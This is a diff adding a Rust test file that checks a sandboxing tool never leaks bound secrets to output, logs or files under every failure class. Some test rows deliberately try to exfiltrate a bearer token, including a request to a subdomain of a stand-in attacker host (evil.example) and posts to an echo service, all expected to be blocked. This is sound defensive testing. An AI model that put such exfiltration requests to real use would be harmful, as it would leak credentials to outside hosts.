@@ -1,0 +1,178 @@
+//! The canary: secrets of every kind are bound, every class of failure happens, and none of them is written anywhere.
+//!
+//! The real command line at its loudest, a guest that does its worst, services that echo what they are sent. What is
+//! looked at: standard output, standard error with every log line, and every file of the home and the temporary
+//! directory, for every secret in every form of `grep`.
+
+mod cage;
+mod grep;
+
+use std::fs;
+
+use cofferdam::FailureClass;
+use serde_json::{Value, json};
+
+use cage::{Cage, SECRETS, clean, name};
+
+/// A call that fails, as which code.
+type Row = (&'static str, &'static str, Value, Vec<&'static str>, &'static str);
+
+/// At least one way to each class. A new class does not compile until it has one.
+fn rows(class: FailureClass, cage: &Cage) -> Vec<Row> {
+    let url = |path: &str| cage.upstream.url(path);
+    let fetch = |path: &str| json!({"url": url(path)});
+    let bearer = SECRETS[0].1;
+    match class {
+        FailureClass::CapabilityDenied => vec![
+            (
+                "probe",
+                "swallow_denial",
+                json!({"url": "http://elsewhere.example/"}),
+                vec![],
+                "host_not_granted",
+            ),
+            (
+                "probe",
+                "swallow_denial",
+                json!({"url": format!("http://{bearer}.evil.example/")}),
+                vec![],
+                "secret_in_request",
+            ),
+            ("probe", "fetch", fetch(&format!("/text/{bearer}")), vec![], "secret_in_request"),
+            (
+                "probe",
+                "post",
+                json!({"url": url("/echo"), "body": format!("a {bearer} b")}),
+                vec![],
+                "secret_in_request",
+            ),
+            ("probe", "fetch", fetch("/echo"), vec![], "secret_reflected"),
+            ("probe", "swallow_denial", fetch("/echo"), vec![], "secret_reflected"),
+            ("basic", "fetch", fetch("/echo"), vec![], "secret_reflected"),
+            ("oauth", "fetch", fetch("/echo"), vec![], "secret_reflected"),
+            ("aws", "fetch", fetch("/echo"), vec![], "secret_reflected"),
+            (
+                "probe",
+                "fail",
+                json!({"kind": "failed", "message": bearer, "detail": bearer}),
+                vec![],
+                "secret_reflected",
+            ),
+        ],
+        FailureClass::BindingRequired => vec![("unbound", "fetch", fetch("/text/a"), vec![], "")],
+        FailureClass::BindingFailed => vec![("refused", "fetch", fetch("/text/a"), vec![], "")],
+        FailureClass::ResourceLimitExceeded => vec![
+            ("probe", "spin", json!({}), vec!["--fuel", "1000000"], ""),
+            ("probe", "sleep", json!({"ms": 60_000}), vec!["--timeout", "100ms"], ""),
+            ("probe", "fetch", fetch("/hang"), vec!["--timeout", "300ms"], ""),
+            ("probe", "fetch", fetch("/bytes/11000000"), vec![], ""),
+            ("probe", "fetch", fetch("/fields/50?bytes=4000"), vec![], ""),
+            ("probe", "eat_memory", json!({}), vec!["--memory", "4MiB"], ""),
+        ],
+        FailureClass::ConnectorRuntimeError => vec![
+            ("probe", "panic", json!({"message": format!("a {bearer} b")}), vec![], "trap"),
+            ("probe", "panic", json!({"message": format!("{bearer}{}", "x".repeat(1980))}), vec![], "trap"),
+            (
+                "probe",
+                "fail",
+                json!({"kind": "failed", "message": "m", "detail": format!("d {bearer}")}),
+                vec![],
+                "op_failed",
+            ),
+            ("probe", "fail", json!({"kind": "invalid_input", "message": "m"}), vec![], "input_invalid"),
+            ("probe", "exit", json!({"code": 1}), vec![], "exit"),
+        ],
+        FailureClass::NetworkError => vec![
+            ("probe", "fetch", fetch("/drop"), vec![], ""),
+            ("probe", "fetch", fetch("/early-close"), vec![], ""),
+            ("oauth", "fetch", fetch("/drop"), vec![], ""),
+            ("aws", "fetch", fetch("/drop"), vec![], ""),
+            ("probe", "fetch", json!({"url": format!("http://localhost:{}/", cage.closed_port)}), vec![], ""),
+        ],
+        FailureClass::ExternalApiError => ["probe", "basic", "oauth", "aws"]
+            .into_iter()
+            .flat_map(|connector| {
+                ["/status/401", "/status/500", "/status/429?retry_after=1"]
+                    .map(|path| (connector, "fetch", fetch(path), vec![], ""))
+            })
+            .collect(),
+        FailureClass::HashMismatch => {
+            let package = cage.package("flipped", "");
+            crate::world::run(cage.home.install(&package, &cage.signer)).unwrap();
+            let file = cage.installed(&package);
+            let mut bytes = fs::read(&file).unwrap();
+            let last = bytes.len() - 1;
+            bytes[last] ^= 1;
+            fs::remove_file(&file).unwrap();
+            fs::write(&file, bytes).unwrap();
+            vec![("flipped", "fetch", fetch("/text/a"), vec![], "")]
+        }
+        FailureClass::SignatureFailure => {
+            cage.home.revoke(&cage.signer.public());
+            vec![("probe", "fetch", fetch("/text/a"), vec![], "")]
+        }
+    }
+}
+
+#[test]
+fn p5_no_secret_is_written_anywhere_whatever_happens() {
+    let cage = Cage::new();
+    // The control: the secrets do arrive where they belong, and the calls succeed.
+    for connector in ["probe", "basic", "oauth", "aws"] {
+        let path = format!("/bytes/{}", 10 + connector.len());
+        assert_eq!(cage.call(connector, "fetch", &json!({"url": cage.upstream.url(&path)}), &[]), None);
+        let sent = format!("{:?}", cage.upstream.seen(&path));
+        let carried: &[usize] = match connector {
+            "probe" => &[0, 1],
+            "basic" => &[],
+            "oauth" => &[6],
+            _ => &[9],
+        };
+        carried.iter().for_each(|number| assert!(sent.contains(SECRETS[*number].1), "{connector}: {sent}"));
+        assert!(SECRETS.iter().any(|(_, secret)| !grep::found(secret, sent.as_bytes()).is_empty()), "{sent}");
+    }
+    let sent = format!("{:?}", cage.upstream.seen("/bytes/15"));
+    assert!(sent.contains("api_key=canary%2Fquery%2B9sRd3Pf6Gj%3Dk"), "{sent}");
+
+    // What else shows bindings, or could.
+    for args in [
+        &["binding", "list", "--format", "json"][..],
+        &["binding", "inspect", "bearer/shop"],
+        &["binding", "inspect", "oauth2/mail"],
+        &["binding", "set", "bearer/shop", "--stdin"],
+        &["binding", "revoke", "bearer/nobody", "--yes"],
+        &["inspect", &name("probe")],
+        &["list"],
+        &["why", &name("probe"), "localhost:1"],
+        &["call", &name("probe"), "fetch", r#"{"url": 1}"#],
+        &["call", &name("probe"), "log_flood", r#"{"lines": 3, "length": 100}"#],
+        &["call", &name("probe"), "call_info", "{}"],
+    ] {
+        let _ = cage.run(args);
+    }
+    for class in FailureClass::ALL {
+        let rows = rows(*class, &cage);
+        assert!(!rows.is_empty(), "{class:?} has no row");
+        for (connector, op, args, more, code) in rows {
+            let came = cage.call(connector, op, &args, &more);
+            let Some((came, came_code)) = came else { panic!("{connector} {op} {args} succeeded") };
+            assert_eq!(came, class.name(), "{connector} {op} {args}: {came_code}");
+            assert!(code.is_empty() || code == came_code, "{connector} {op} {args}: {came_code}");
+        }
+    }
+    let files = cage.look_at_files();
+    assert!(files > 10 && cage.home.path().join("vault").exists(), "{files} files");
+}
+
+/// The control of the search itself: what is planted is found, in each form by itself.
+#[test]
+fn p5_a_secret_that_is_written_is_found() {
+    for (name, secret) in SECRETS {
+        for (form, bytes) in grep::forms(secret) {
+            let planted = [b"before ", bytes.as_slice(), b" after"].concat();
+            assert!(grep::found(secret, &planted).contains(&form), "{name} as {form}");
+            assert!(std::panic::catch_unwind(|| clean("a plant", &planted)).is_err(), "{name} as {form}");
+        }
+        assert!(grep::found(secret, b"nothing of it").is_empty());
+    }
+}
